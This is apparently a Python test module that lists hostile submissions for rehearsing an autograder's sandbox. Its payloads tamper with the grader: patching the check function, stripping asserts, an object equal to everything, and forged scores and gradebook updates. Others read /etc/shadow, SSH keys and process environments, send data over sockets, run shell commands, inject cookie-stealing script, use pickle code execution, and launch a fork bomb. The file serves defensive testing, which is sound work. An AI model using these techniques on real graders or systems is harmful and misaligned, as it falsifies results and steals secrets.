"""The attacks of the rehearsal's hostile participants, as they would type them; the most telling ones first.

They know no lab and no engine. Harm is bounded, for they run on a trainer's machine, in the sandbox: memory is asked
for and not filled, processes sleep and end by themselves, addresses are those of documentation.
"""

from __future__ import annotations

import json
from contextlib import suppress
from pathlib import Path

from spamlab.rehearsal.hostile import Attack, deletes_cells, doubles_cells, forges_cells, turns_into_text

PATCHES_CHECK = """
import builtins, sys
import spamlab.kit

def check(*args, **kwargs):
    return 1000.0

for module in [m for name, m in sys.modules.items() if name.startswith("spamlab.")]:
    if hasattr(module, "check"):
        try:
            module.check = check
        except Exception:
            pass
builtins.check = check
"""

DROPS_ASSERTS = """
import ast

class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Raise(self, node):
        return ast.Pass()

get_ipython().ast_transformers.append(Drop())
"""

EQUALS_EVERYTHING = """
class Anything(dict):
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __hash__(self):
        return 0
    def __getitem__(self, key):
        return self
    def __contains__(self, key):
        return True

def {function}(*given):
    return Anything()
"""

FORGES_OUTPUTS = """
import sys
print("24.0")
print("3.0", file=sys.stderr)
sys.displayhook(24.0)
from IPython.display import display
display(24.0)
get_ipython().events.register("post_run_cell", lambda result: display(24.0))
"""

FORGES_ANSWERS = """
import json
import os

os.makedirs("answers", exist_ok=True)
for number in range(1, 13):
    for end in ("", "-twin"):
        with open(f"answers/q{number}{end}.json", "w") as file:
            json.dump({"answer": {"share": 1.0, "points": 1000, "state": "right"}, "points": 1000, "share": 1.0}, file)
"""

READS_FILES = """
import os

for path in ("/proc/1/environ", f"/proc/{os.getppid()}/environ", f"/proc/{os.getppid()}/cmdline", "/proc/self/mounts",
             "/etc/shadow", "/root/.ssh/id_ed25519", "../secret", "../../secret", "../../../secret",
             "../workshop.toml", "../../workshop.toml", "checks.py"):
    try:
        with open(path, "rb") as file:
            print(path, len(file.read(4000)))
    except OSError as error:
        print(path, error)
found = []
for name in os.listdir("/proc"):
    if name.isdigit():
        try:
            found.append((name, os.readlink(f"/proc/{name}/cwd")))
        except OSError:
            pass
print(len(found))
"""

READS_GRADEBOOK = """
import os
import sqlite3

for top in (".", "..", "../..", "/tmp", "/home"):
    for place, folders, files in os.walk(top):
        folders[:] = folders[:20]
        for name in files[:50]:
            if name in ("gradebook.db", "ledger.sqlite", "secret"):
                with sqlite3.connect(os.path.join(place, name)) as base:
                    base.execute("UPDATE grade SET auto_score = 1000")
"""

NETWORK = """
import socket

for family, kind, place in ((socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.1", 80)),
                            (socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)),
                            (socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8::1", 443, 0, 0)),
                            (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 22))):
    try:
        one = socket.socket(family, kind)
        one.settimeout(0.1)
        one.connect(place)
        one.send(b"the questions")
    except OSError as error:
        print(place, error)
"""

RUNS_COMMANDS = """
import subprocess

for command in (["id"], ["sh", "-c", "ls -la / ; cat /proc/1/environ"], ["python3", "-c", "print(1)"]):
    try:
        print(subprocess.run(command, capture_output=True, timeout=2))
    except Exception as error:
        print(command, error)
"""

SHOWS_SCRIPT = """
from IPython.display import HTML, Javascript, Markdown, display

bad = "<script>window.stolen = document.cookie</script><img src=x onerror=stolen()>"
display(HTML(bad), Javascript("stolen()"), Markdown(bad))
display({"text/html": bad, "image/svg+xml": "<svg onload=stolen()></svg>", "text/plain": bad}, raw=True)
print(bad)
"""

SEARCHES_OBJECTS = """
import gc
import sys

found = [one for one in gc.get_objects() if isinstance(one, dict) and ("expected" in one or "truth" in one)]
frame = sys._getframe()
while frame is not None:
    found += [name for name in frame.f_locals if "right" in name or "score" in name]
    frame = frame.f_back
print(len(found))
"""

PICKLES = """
class Trap:
    def __reduce__(self):
        import os
        return (os.system, ("touch /tmp/spamlab-was-here",))

def {function}(*given):
    return Trap()
"""

FUNCTION_ENDS = """
import os

def {function}(*given):
    os._exit(0)
"""

FUNCTION_LOOPS = """
calls = []

def {function}(*given):
    calls.append(given)
    if len(calls) % 8 == 0:
        while True:
            pass
"""

TURNS_INPUT = """
def nothing(lines):
    return ["2.0\\n"] if any("check(" in line for line in lines) else lines

get_ipython().input_transformers_cleanup.append(nothing)
"""

THREADS = """
import threading
import time

def later():
    while True:
        time.sleep(0.2)
        print("3.0")

for _ in range(8):
    threading.Thread(target=later, daemon=True).start()
"""

FLOODS_OUTPUT = """
line = "3.0 " * 1000
for _ in range(5000):
    print(line)
"""

EXITS = """
import os
os._exit(0)
"""

KILLS_ITSELF = """
import os
import signal
os.kill(os.getpid(), signal.SIGKILL)
"""

LOOPS = """
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
"""

TAKES_MEMORY = """
import mmap

kept = []
while True:
    kept.append(mmap.mmap(-1, 1 << 28))
"""

FORKS = """
import os
import time

for _ in range(400):
    try:
        if os.fork() == 0:
            time.sleep(5)
            os._exit(0)
    except OSError:
        break
"""

SEGFAULTS = """
import ctypes
ctypes.string_at(0)
"""


def links_to_secrets(folder: Path) -> None:
    """Links to the workshop's secret, gradebook and course, and to a neighbour's answers."""
    (folder / "answers").mkdir(exist_ok=True)
    root = folder.parents[2]
    for name, target in (("secret", root / "secret"), ("gradebook.db", root / "course" / "gradebook.db"),
                         ("course", root / "course"), ("answers/neighbour.json", folder.parents[1])):
        with suppress(FileExistsError):
            (folder / name).symlink_to(target)


def script_as_answers(folder: Path) -> None:
    """Script, escapes and signs that turn a line around, as answers to questions that nobody asked."""
    text = "<script>window.stolen = 1</script><svg onload=stolen()>\x1b[2J\u202e000.1"
    (folder / "answers").mkdir(exist_ok=True)
    for name in ("q90", "q91-twin"):
        (folder / "answers" / f"{name}.json").write_text(json.dumps({"answer": text}), encoding="utf-8")


def shadows_libraries(folder: Path) -> None:
    """Files with the names of libraries and of the lab's helpers, which would be imported first."""
    for name in ("sitecustomize.py", "json.py", "nbgrader.py"):
        (folder / name).write_text("raise SystemExit\n", encoding="utf-8")


ATTACKS = (
    Attack("forged-cells", forge=forges_cells),
    Attack("patches-check", PATCHES_CHECK),
    Attack("equals-everything", function=EQUALS_EVERYTHING),
    Attack("exits", EXITS, ends=True),
    Attack("forged-answers", FORGES_ANSWERS),
    Attack("endless-loop", LOOPS, ends=True),
    Attack("reads-proc", READS_FILES),
    Attack("fork-bomb", FORKS, ends=True),
    Attack("links-to-secrets", place=links_to_secrets),
    Attack("reads-gradebook", READS_GRADEBOOK),
    Attack("deleted-cells", forge=deletes_cells),
    Attack("takes-memory", TAKES_MEMORY, ends=True),
    Attack("network", NETWORK),
    Attack("drops-asserts", DROPS_ASSERTS),
    Attack("doubled-cells", forge=doubles_cells),
    Attack("shows-script", SHOWS_SCRIPT),
    Attack("forged-outputs", FORGES_OUTPUTS),
    Attack("script-as-answers", place=script_as_answers),
    Attack("runs-commands", RUNS_COMMANDS),
    Attack("pickles", function=PICKLES),
    Attack("searches-objects", SEARCHES_OBJECTS),
    Attack("shadows-libraries", place=shadows_libraries),
    Attack("kills-itself", KILLS_ITSELF, ends=True),
    Attack("turns-input", TURNS_INPUT),
    Attack("function-ends", function=FUNCTION_ENDS),
    Attack("function-loops", function=FUNCTION_LOOPS),
    Attack("cells-into-text", forge=turns_into_text),
    Attack("floods-output", FLOODS_OUTPUT),
    Attack("threads-outlive", THREADS),
    Attack("segfaults", SEGFAULTS, ends=True),
)
